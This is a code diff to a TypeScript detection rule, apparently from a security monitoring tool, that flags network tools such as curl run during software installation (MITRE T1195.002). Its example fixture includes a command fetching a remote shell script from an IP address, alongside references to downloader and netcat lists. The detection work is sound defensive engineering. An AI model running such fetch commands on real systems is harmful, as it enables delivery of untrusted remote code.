@@ -4,6 +4,7 @@ import { calls, hasWord, quoteOfNeedle, withoutVersion, wordWhere } from "../exe
 import { inContainer, onHost, ran } from "../execution/examples.ts";
 import { gated } from "../execution/needles.ts";
 import { downloaders, netcats } from "../execution/programs.ts";
+import { behind } from "../gates.ts";
 
 /** Foreign software on the way in. */
 
@@ -83,10 +84,10 @@ export const networkToolDuringInstall: Indicator = {
   platforms: ["Linux", "Containers"],
   families: ["syscall"],
   source: "https://attack.mitre.org/techniques/T1195/002/",
-  match: (facts) => {
+  match: behind({ processes: networkTools }, (facts) => {
     if (facts.connection !== null || !networkTools.has(facts.process.name ?? "")) return null;
     return installerAmong(facts);
-  },
+  }),
   examples: {
     found: [
       ran("curl -s http://203.0.113.9/a.sh", {
